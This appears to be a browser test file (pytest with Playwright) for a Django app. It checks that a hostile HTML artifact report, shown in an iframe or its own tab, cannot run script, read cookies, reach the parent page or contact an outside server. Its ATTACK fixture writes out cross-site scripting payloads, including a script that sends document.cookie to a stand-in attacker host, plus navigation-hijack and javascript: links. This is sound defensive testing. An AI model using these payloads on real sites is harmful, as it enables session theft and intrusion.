"""Artifacts in a real browser: what a hostile HTML report reaches, which is nothing, and how the tab looks."""

import base64
import socket
import struct
import threading
import zlib

import pytest
from django.test import Client
from django.urls import reverse
from factories import make_grant, make_member, make_org, make_tenant
from playwright.sync_api import expect

from tests.browsing import LOOKS, problems, settled
from tests.tenants.runs.fakes import CUSTOMERS, PROJECT, RUN_ID

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ATTACK = """<!doctype html><base href="{probe}"><title>attack</title>
<link rel="preconnect" href="{probe}"><link rel="dns-prefetch" href="{probe}">
<link rel="stylesheet" href="{probe}/link"><style>@import "{probe}/import"; body {{background: url({probe}/css)}}</style>
<meta http-equiv="refresh" content="0; url={probe}/refresh">
<script>
  document.title = "ran";
  fetch("{probe}/script?" + document.cookie);
  parent.document.title = "taken";
  top.location = "{probe}/top";
</script>
<svg onload="fetch('{probe}/svg')"></svg><img src="{probe}/img" onerror="fetch('{probe}/onerror')">
<video src="{probe}/video" autoplay></video><object data="{probe}/object"></object><embed src="{probe}/embed">
<iframe src="{site}"></iframe><iframe srcdoc="<script>top.location='{probe}/inner'</script>"></iframe>
<iframe srcdoc="&lt;a href='{probe}/nested'&gt;x&lt;/a&gt;"></iframe>
<svg><a xlink:href="{probe}/x" href="{probe}/x">x</a></svg>
<form action="{site}" method="post" target="_top"><button id="send">Send</button></form>
<a id="top" href="{probe}/link" target="_top" ping="{probe}/ping">Top</a> <a id="self" href="{probe}/self">Self</a>
<a id="run" href="javascript:top.location='{probe}/js'">Run</a><h1>Report</h1>"""


class Listener:
    """A server of the attacker's: it counts who connects, whatever for."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        self.reached = []
        self.came = threading.Event()
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.reached.append(connection)
            self.came.set()

    def close(self):
        self.socket.close()
        for connection in self.reached:
            connection.close()


@pytest.fixture
def attacker():
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def world(transactional_db, server):
    org = make_org("Acme AI")
    owner = make_member(org, "admin", name="Ada Okafor")
    tenant = make_tenant(org, "production", name="production", project_id=PROJECT["id"])
    make_grant(tenant, owner, "admin", giver=owner)
    return tenant, owner


def path_of(tenant, name="run_detail", *more):
    return reverse(f"tenants:{name}", args=[tenant.organization.slug, tenant.slug, RUN_ID, *more])


@pytest.fixture
def signed_in(world, live_server, page):
    client = Client()
    client.force_login(world[1])
    cookie = {"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_server.url}
    page.context.add_cookies([cookie])
    return page


def attack(server, attacker, live_server):
    server.show("html", ATTACK.format(probe=attacker.url, site=live_server.url))


def test_the_attack_works_where_nothing_holds_it(page, attacker, live_server):
    """Else the tests below would hold for any page."""
    body = ATTACK.format(probe=attacker.url, site=live_server.url)
    page.route("http://open.test/", lambda route: route.fulfill(body=body, content_type="text/html"))
    page.goto("http://open.test/", wait_until="commit")
    assert attacker.came.wait(30)


TRIES = """async ([probe, site]) => {
  const told = async (what) => { try { return await what() } catch (error) { return error.name } };
  return {
    origin: self.origin,
    cookie: await told(() => document.cookie),
    parent: await told(() => parent.document.title),
    storage: await told(() => localStorage.length),
    network: await told(() => fetch(probe + "/fetch")),
    api: await told(() => fetch(site + "/api/v1/me", {credentials: "include"})),
  };
}"""
NOTHING = {
    "origin": "null",
    "cookie": "SecurityError",
    "parent": "SecurityError",
    "storage": "SecurityError",
    "network": "TypeError",
    "api": "TypeError",
}


def test_a_hostile_report_reaches_nothing(signed_in, world, server, attacker, live_server):
    """No script of it runs; a debugger's script in its place shows that none could do harm either."""
    attack(server, attacker, live_server)
    page, address = signed_in, f"{live_server.url}{path_of(world[0])}?view=artifacts"
    page.goto(address)
    frame = page.frame(url=lambda url: f"/artifacts/{CUSTOMERS}/0/" in url)
    expect(page.frame_locator("iframe.frame").locator("h1")).to_have_text("Report")
    assert frame.title() == "attack"
    assert frame.evaluate(TRIES, [attacker.url, live_server.url]) == NOTHING
    for target in ("#top", "#self", "#run", "#send"):
        frame.locator(target).evaluate("element => element.click()")
    assert frame.child_frames == []
    settled(page)
    assert page.url == address
    assert page.title().endswith("production")
    assert attacker.reached == []
    assert page.context.pages == [page]


def test_a_hostile_report_opened_in_a_tab_leads_to_its_page(signed_in, world, server, attacker, live_server):
    attack(server, attacker, live_server)
    page = signed_in
    page.goto(live_server.url + path_of(world[0], "artifact_frame", CUSTOMERS, 0))
    expect(page.frame_locator("iframe.frame").locator("h1")).to_have_text("Report")
    assert page.url.endswith(f"?view=artifacts&artifact={CUSTOMERS}")
    assert attacker.reached == []


def test_where_a_browser_does_not_tell_the_tab_is_as_closed(signed_in, world, server, attacker, live_server):
    """Without HTTPS no browser says what it opens an address for: the policy alone must hold."""
    attack(server, attacker, live_server)
    page, address = signed_in, live_server.url + path_of(world[0], "artifact_frame", CUSTOMERS, 0)
    client = Client()
    client.force_login(world[1])
    answer = client.get(path_of(world[0], "artifact_frame", CUSTOMERS, 0))
    page.route(
        address, lambda route: route.fulfill(status=200, headers=dict(answer.headers), body=answer.content)
    )
    page.goto(address)
    expect(page.locator("h1")).to_have_text("Report")
    settled(page)
    assert page.title() == "attack"
    found = page.evaluate(TRIES, [attacker.url, live_server.url])
    for target in ("#top", "#self", "#run", "#send"):
        page.locator(target).evaluate("element => element.click()")
    settled(page)
    assert found == NOTHING | {"parent": "attack"}  # of a tab, which is its own parent
    assert page.url == address
    assert attacker.reached == []


# -- how it looks


def picture() -> str:
    """A PNG of 240 by 160 points, in base64."""
    width, height = 240, 160
    row = b"\0" + b"".join(bytes((x, 90, 160)) for x in range(width))
    rows = row * height

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )
    return base64.b64encode(data).decode()


REPORT = """<body style="font:16px serif;margin:22px"><h1>Churn model, evaluation</h1><p>12,048 customers, 1,131 left.</p>
<svg width="320" height="120"><path d="M10 110 60 40 120 22 310 10" fill="none" stroke="#a33" stroke-width="3"/></svg>"""
METADATA = {
    "auc": 0.874,
    "approved": True,
    "card": "https://example.org/cards/churn",
    "stored": "gs://northwind/churn",
    "classes": ["left", "stayed"],
    "by_region": {"north": {"auc": 0.87, "rows": 4000}, "south": {"auc": 0.88}},
    "essay": "A longer text that nobody wants to see as a whole at once. " * 6,
}
VALUES = {
    "html": REPORT,
    "csv": "customer,score,plan\n" + "".join(f"C-{n},{n / 70:.3f},pro\n" for n in range(70)),
    "json": '{"threshold": 0.42, "classes": ["left", "stayed"]}',
    "markdown": "# Notes\n\n* the south was measured twice",
    "image": picture(),
}


@pytest.mark.parametrize(("width", "scheme"), LOOKS)
@pytest.mark.parametrize("kind", VALUES)
def test_the_tab_is_in_order(visits, world, server, kind, width, scheme):
    server.show(kind, VALUES[kind])
    server.artifact_answers[str(CUSTOMERS)]["metadata"]["run_metadata"] |= METADATA
    page = visits.open(f"{path_of(world[0])}?view=artifacts", world[1], width, scheme)
    assert problems(page) == []
    if kind == "image":
        expect(page.locator(".picture img")).to_have_js_property("naturalWidth", 240)


@pytest.mark.parametrize(("width", "scheme"), LOOKS)
def test_metadata_is_in_order(visits, world, server, width, scheme):
    server.step_answers[str(RUN_ID)]["items"][0]["metadata"]["run_metadata"] = METADATA
    page = visits.open(f"{path_of(world[0])}?view=metrics", world[1], width, scheme)
    assert problems(page) == []


def test_every_artifact_is_a_link_for_the_keyboard(visits, world, server):
    page = visits.open(f"{path_of(world[0])}?view=artifacts&step=build_features", world[1])
    page.get_by_role("link", name="training_set").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="training_set")).to_be_visible()
    page.get_by_label("Step").select_option("evaluate")
    page.get_by_role("button", name="Show").click()
    expect(page.get_by_role("heading", name="Saved by evaluate")).to_be_visible()
